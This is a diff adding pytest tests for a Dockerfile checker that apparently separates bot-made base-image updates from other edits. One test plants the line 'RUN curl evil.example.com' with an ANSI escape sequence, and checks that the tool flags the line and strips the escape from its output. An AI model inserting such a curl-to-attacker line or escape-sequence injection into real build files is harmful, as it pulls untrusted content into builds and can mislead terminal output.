@@ -128,6 +128,57 @@ def test_a_digest_covers_no_other_line(tmp_path: Path, line: str) -> None:
     run("build", cwd=folder, code=2)
 
 
+TAKEN = "an update of its base image, taken over once nothing else differs"
+COMPLAINTS = {
+    "registry": "no image of a repository that kforge chose",
+    "minor": f"no update of `{PYTHON}`: a digest or a later patch version is one",
+    "variant": f"no update of `{PYTHON}`: a digest or a later patch version is one",
+    "one place of two": "another stage has another image in this place",
+    "stage name": f"no update of `{PYTHON}`: a digest or a later patch version is one",
+    "a comment": "no update of a base image",
+    "case": "no update of a base image",
+}
+
+
+@pytest.mark.parametrize("how", COMPLAINTS)
+def test_a_check_says_of_each_line_why_it_is_not_taken_over(tmp_path: Path, how: str) -> None:
+    folder = project(tmp_path)
+    change(folder, "web/Dockerfile", EVIL[how])
+    said = run("check", "--full", cwd=folder, code=1).err
+    assert f"`: {COMPLAINTS[how]}\n" in said and TAKEN not in said
+
+
+def test_a_check_tells_a_bots_lines_from_those_that_came_with_them(tmp_path: Path) -> None:
+    folder = project(tmp_path)
+    change(
+        folder,
+        "web/Dockerfile",
+        (PYTHON, f"{PYTHON}@{A}"),
+        ("EXPOSE 8000", "RUN curl evil.example.com\x1b[31m"),
+    )
+    lines = (folder / "web/Dockerfile").read_text().split("\n")
+    bots = [number for number, text in enumerate(lines, 1) if A in text]
+    other = next(number for number, text in enumerate(lines, 1) if "evil" in text)
+    said = run("check", "--full", cwd=folder, code=1).err
+    assert all(f"web/Dockerfile:{number}: `{lines[number - 1]}`: {TAKEN}\n" in said for number in bots)
+    assert f"web/Dockerfile:{other}: `RUN curl evil.example.com" in said and "\x1b" not in said
+    assert "`: no update of a base image\n" in said
+    assert "web/Dockerfile: `EXPOSE 8000` is missing\n" in said
+    (annotation,) = [
+        line
+        for line in run("check", "--full", "--format", "github", cwd=folder, code=1).out.splitlines()
+        if "file=web/Dockerfile" in line
+    ]
+    assert f"web/Dockerfile:{other}: " in annotation and TAKEN in annotation and "run `kforge build`" not in annotation
+
+
+def test_a_digest_that_the_spec_names_is_said_to_go_before_a_bots(tmp_path: Path) -> None:
+    folder = project(tmp_path, f"bases:\n  python-3.13: {PYTHON}@{A}\n")
+    change(folder, "web/Dockerfile", (A, B))
+    said = run("check", "--full", cwd=folder, code=1).err
+    assert f"the spec names the digest of `{PYTHON}@{A}`, which goes before it" in said
+
+
 def forged(folder: Path, images: str) -> None:
     """A lock that says what stands in an image's place, and a Dockerfile that agrees; digests made to fit by a build."""
     change(folder, "web/Dockerfile", (PYTHON, f"{PYTHON}@{A}"))
